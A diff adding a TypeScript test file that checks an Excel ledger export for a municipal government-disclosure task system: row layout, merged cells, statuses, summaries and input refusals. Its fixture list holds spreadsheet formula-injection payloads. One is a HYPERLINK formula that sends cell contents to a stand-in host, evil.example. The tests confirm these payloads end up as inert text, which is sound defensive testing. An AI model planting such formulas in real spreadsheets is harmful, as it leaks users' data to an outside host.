@@ -1,0 +1,224 @@
+/**
+ * ledger.export read back with exceljs: every assignment of every round in
+ * scope, the table's merged cells where they belong, statuses and reviews,
+ * and report texts, file names and link titles that look like formulas
+ * written as text (string cells; no formula anywhere in the sheet XML).
+ */
+import type ExcelJS from 'exceljs';
+import { db } from '../../cloudfunctions/common/cloud';
+import { buildPlanDocs } from '../../cloudfunctions/common/domain/plan-docs';
+import type { ReportDoc } from '../../cloudfunctions/common/records';
+import { DIRECTORY, TABLE_2021 } from '../../cloudfunctions/common/table';
+import { uploadPrefix, type RoundView } from '../../miniprogram/shared/api';
+import type { LedgerExportResult } from '../../miniprogram/shared/ledger-api';
+import { CONTACTS, approveContacts, assignmentOf, createRound, inDays, reportInput, startUploader } from '../helpers/journey';
+import { cellTypeInXml, fetchFile, readWorkbook, sheetXml } from '../helpers/ledger';
+import { ADMIN, okData, startTestCloud, type TestCloud } from '../helpers/local-cloud';
+
+const INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1', '-1', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
+/** Tasks on which 市司法局 reports one injection each (11 and 25 name it; the others reach it as a department). */
+const TASKS = [11, 25, 2, 3, 18, 19];
+const SSFJ = CONTACTS.ssfj;
+
+let t: TestCloud;
+let q3: RoundView;
+let late: RoundView;
+let whole: LedgerExportResult;
+let xlsx: Buffer;
+let sheet: ExcelJS.Worksheet;
+/** Sheet row of (task, unit, round name). */
+const rowOf = new Map<string, number>();
+
+beforeAll(async () => {
+  t = startTestCloud();
+  await t.seed();
+  const up = await startUploader(t);
+  await approveContacts(t, ['ssfj', 'xiangcheng']);
+  q3 = await createRound(t, { name: '第三季度', dueDate: inDays(20) });
+  late = await createRound(t, { name: '上半年', dueDate: inDays(-3), scope: [24, 25] });
+  // What a phone can send: leading tabs and CRs are trimmed by report.submit, so those two
+  // arrive as stored data (an older version, an edit in the console) further down.
+  for (const [i, text] of INJECTIONS.slice(0, 4).entries()) {
+    const img = await up.upload(SSFJ.openid, `${uploadPrefix('ssfj')}ledger/${i}.jpg`);
+    const doc = await up.upload(SSFJ.openid, `${uploadPrefix('ssfj')}ledger/${i}.pdf`);
+    okData(
+      await t.as(SSFJ.openid)(
+        'report.submit',
+        reportInput(assignmentOf(TASKS[i] as number, 'ssfj'), q3.id, `ledger-export-${i}`, {
+          text,
+          images: [{ fileID: img, name: `${text}.jpg`, size: 15 }],
+          files: [{ fileID: doc, name: `${text}.pdf`, size: 15 }],
+          links: [{ url: 'https://www.zoucheng.gov.cn/art/1.html', title: text }],
+        }),
+      ),
+    );
+  }
+  const at = new Date();
+  for (const [i, text] of INJECTIONS.slice(4).entries()) {
+    const taskNo = TASKS[4 + i] as number;
+    const doc: ReportDoc = {
+      _id: `${assignmentOf(taskNo, 'ssfj')}-${q3.id}-v1`,
+      assignmentId: assignmentOf(taskNo, 'ssfj'),
+      planId: 'plan-2021',
+      taskNo,
+      unitId: 'ssfj',
+      roundId: q3.id,
+      version: 1,
+      text,
+      progress: 'ongoing',
+      evidence: {
+        images: [{ fileID: 'cloud://local-dev.x/units/ssfj/gone.jpg', name: `${text}.jpg`, size: 1 }],
+        files: [],
+        links: [{ url: 'https://www.zoucheng.gov.cn/', title: text }],
+      },
+      secrecyConfirmed: true,
+      state: 'submitted',
+      submittedBy: SSFJ.openid,
+      submittedByName: SSFJ.name,
+      submittedAt: at,
+      requestKey: `${SSFJ.openid}:stored-${i}`,
+    };
+    await db.collection('reports').add({ data: doc });
+  }
+  // Two versions on task 25: the ledger shows the latest; one approved with a note.
+  okData(await t.as(SSFJ.openid)('report.submit', reportInput(assignmentOf(25, 'ssfj'), late.id, 'ledger-late-1', { text: '第一稿' })));
+  const v2 = okData(
+    await t.as(SSFJ.openid)('report.submit', reportInput(assignmentOf(25, 'ssfj'), late.id, 'ledger-late-2', { text: '第二稿' })),
+  );
+  okData(await t.as(ADMIN)('review.decide', { reportId: v2.report.id, decision: 'approve', note: '材料齐全' }));
+
+  whole = okData(await t.ledger(ADMIN)('ledger.export', { year: 2021 }));
+  xlsx = await fetchFile(whole);
+  const wb = await readWorkbook(xlsx);
+  sheet = wb.getWorksheet('工作台账') as ExcelJS.Worksheet;
+  for (let r = 4; r <= sheet.rowCount; r++) {
+    const row = sheet.getRow(r);
+    // A merged cell reads as its master (the first row of the merge).
+    const text = (col: number) => row.getCell(col).master.text;
+    rowOf.set(`${text(3)}|${text(6)}|${text(8)}`, r);
+  }
+});
+afterAll(() => t.close());
+
+/** The 2021 assignments as the table and the directory define them. */
+const { assignments } = buildPlanDocs(
+  TABLE_2021,
+  DIRECTORY.units.map((u) => ({ id: u.code, name: u.name, kind: u.kind, active: true })),
+  DIRECTORY.groups,
+);
+
+test('one row per assignment per round in scope, and nothing else', () => {
+  const expected = [
+    ...assignments.map((a) => `${a.taskNo}|${a.unitName}|第三季度`),
+    ...assignments.filter((a) => a.taskNo === 24 || a.taskNo === 25).map((a) => `${a.taskNo}|${a.unitName}|上半年`),
+  ];
+  expect(whole).toMatchObject({ rows: expected.length, tasks: 44, rounds: 2, name: '邹城市2021年政务公开工作台账（全年）.xlsx' });
+  expect(whole.size).toBe(xlsx.length);
+  expect([...rowOf.keys()].sort()).toEqual(expected.sort());
+  expect(sheet.rowCount).toBe(3 + expected.length);
+});
+
+test('the table’s layout: 大项, 小项, 序号, 任务要求 and 责任单位 merged over their rows, a unit over its rounds', () => {
+  const merges = new Set(sheet.model.merges);
+  const rowsOfTask = (no: number) => [...rowOf].filter(([k]) => k.startsWith(`${no}|`)).map(([, r]) => r);
+  const span = (nos: number[]) => {
+    const rows = nos.flatMap(rowsOfTask);
+    return [Math.min(...rows), Math.max(...rows)];
+  };
+  const [s1, e1] = span([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17]);
+  expect(merges).toContain(`A${s1}:A${e1}`);
+  expect(sheet.getCell(`A${s1}`).text).toBe('一、深化重点领域政府信息公开');
+  const [s9, e9] = span([21, 22, 23, 24]);
+  expect(merges).toContain(`B${s9}:B${e9}`);
+  expect(sheet.getCell(`B${s9}`).text).toBe('(九)积极回应社会关切');
+  const [s24, e24] = span([24]);
+  for (const col of 'CDE') expect(merges).toContain(`${col}${s24}:${col}${e24}`);
+  expect(sheet.getCell(`D${s24}`).text).toBe(TABLE_2021.tasks[23]?.requirement);
+  expect(sheet.getCell(`E${s24}`).text).toBe('市政府办公室牵头,市政府各部门、各镇街配合');
+  // 市司法局 on task 24: two rounds in due-date order, one unit cell.
+  const ssfj24 = rowOf.get('24|市司法局|上半年') as number;
+  expect(rowOf.get('24|市司法局|第三季度')).toBe(ssfj24 + 1);
+  expect(merges).toContain(`F${ssfj24}:F${ssfj24 + 1}`);
+  expect(merges).toContain(`G${ssfj24}:G${ssfj24 + 1}`);
+  // Task 4 has one unit in one round: a single row, nothing merged.
+  const [s4, e4] = span([4]);
+  expect(s4).toBe(e4);
+  expect([...merges].some((m) => m.startsWith(`C${s4}:`))).toBe(false);
+  // Frozen header, A4 landscape one page wide.
+  expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
+  expect(sheet.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToWidth: 1 });
+});
+
+test('status, latest version, review and evidence of each row', () => {
+  const row = (key: string) => sheet.getRow(rowOf.get(key) as number);
+  const r25 = row('25|市司法局|上半年');
+  expect(r25.getCell(10).text).toBe('已通过');
+  expect(r25.getCell(12).text).toBe('第二稿');
+  expect(r25.getCell(13).text).toBe(SSFJ.name);
+  expect(r25.getCell(15).text).toBe('测试管理员');
+  expect(r25.getCell(17).text).toBe('通过：材料齐全');
+  // The late round is past due: a unit that never reported is overdue; the open round is not.
+  expect(row('24|香城镇|上半年').getCell(10).text).toBe('已逾期');
+  expect(row('24|香城镇|第三季度').getCell(10).text).toBe('待报送');
+  expect(row('11|市司法局|第三季度').getCell(10).text).toBe('已报送');
+  expect(row('11|市司法局|第三季度').getCell(18).text).toBe(
+    `图片：${INJECTIONS[0]}.jpg\n文件：${INJECTIONS[0]}.pdf\n链接：${INJECTIONS[0]} https://www.zoucheng.gov.cn/art/1.html`,
+  );
+});
+
+test.each(INJECTIONS.map((text, i) => [JSON.stringify(text), text, TASKS[i] as number]))(
+  'report text %s is a string cell that stays text, and so are its file names and link title',
+  (_label, text, taskNo) => {
+    const r = rowOf.get(`${taskNo}|市司法局|第三季度`) as number;
+    const xml = sheetXml(xlsx, 1);
+    // XML carries a line break as LF: a CR arrives as one.
+    expect(sheet.getCell(`L${r}`).text).toBe(`'${text.replace(/\r/g, '\n')}`);
+    expect(cellTypeInXml(xml, `L${r}`)).toBe('inlineStr');
+    const evidence = sheet.getCell(`R${r}`).text;
+    expect(evidence).toContain(`${text.replace(/\r/g, '\n')}.jpg`);
+    expect(evidence).toContain(`链接：${text.replace(/\r/g, '\n')} https://`);
+    expect(cellTypeInXml(xml, `R${r}`)).toBe('inlineStr');
+  },
+);
+
+test('no formula anywhere: every sheet’s XML is free of <f> elements', () => {
+  for (const no of [1, 2]) expect(sheetXml(xlsx, no)).not.toMatch(/<f[\s>]/);
+});
+
+test('the summary counts per task and per unit, in directory order', async () => {
+  const wb = await readWorkbook(xlsx);
+  const sum = wb.getWorksheet('汇总') as ExcelJS.Worksheet;
+  const rows = [...Array(sum.rowCount).keys()].map((i) => sum.getRow(i + 1));
+  const total = rows.find((r) => r.getCell(1).text === '合计');
+  expect(total?.getCell(3).value).toBe(whole.rows);
+  const t25 = rows.find((r) => r.getCell(1).value === 25);
+  // 市司法局 in two rounds: one approved, one submitted (its q3 report).
+  expect([t25?.getCell(3).value, t25?.getCell(4).value, t25?.getCell(5).value]).toEqual([2, 1, 1]);
+  const unitNames = rows.filter((r) => r.number > (total?.number ?? 0) + 2).map((r) => r.getCell(2).text);
+  expect(unitNames).toEqual(DIRECTORY.units.map((u) => u.name));
+});
+
+test('one round: its rows only, every task still listed, the round in the name', async () => {
+  const one = okData(await t.ledger(ADMIN)('ledger.export', { roundId: late.id }));
+  const rows = assignments.filter((a) => a.taskNo === 24 || a.taskNo === 25).length;
+  expect(one).toMatchObject({ name: '邹城市2021年政务公开工作台账（上半年）.xlsx', tasks: 44, rounds: 1, rows });
+  const wb = await readWorkbook(await fetchFile(one));
+  const s = wb.getWorksheet('工作台账') as ExcelJS.Worksheet;
+  const rounds = new Set<string>();
+  for (let r = 4; r <= s.rowCount; r++) if (s.getRow(r).getCell(8).text) rounds.add(s.getRow(r).getCell(8).text);
+  expect([...rounds]).toEqual(['上半年']);
+  // 44 tasks: 42 with a placeholder row, tasks 24 and 25 with their units' rows.
+  expect(s.rowCount).toBe(3 + 42 + one.rows);
+});
+
+test('refusals name the field: an unknown year or round, a round of another year', async () => {
+  const ledger = t.ledger(ADMIN);
+  expect(await ledger('ledger.export', { year: 2030 })).toMatchObject({ ok: false, code: 'NOT_FOUND', field: 'year' });
+  expect(await ledger('ledger.export', { roundId: 'no-such-round' })).toMatchObject({ ok: false, code: 'NOT_FOUND', field: 'roundId' });
+  expect(await ledger('ledger.export', { year: 2022, roundId: q3.id })).toMatchObject({
+    ok: false,
+    code: 'INVALID_INPUT',
+    field: 'roundId',
+  });
+  expect(await ledger('ledger.export', { roundId: 'a/b' } as never)).toMatchObject({ ok: false, code: 'INVALID_INPUT', field: 'roundId' });
+});
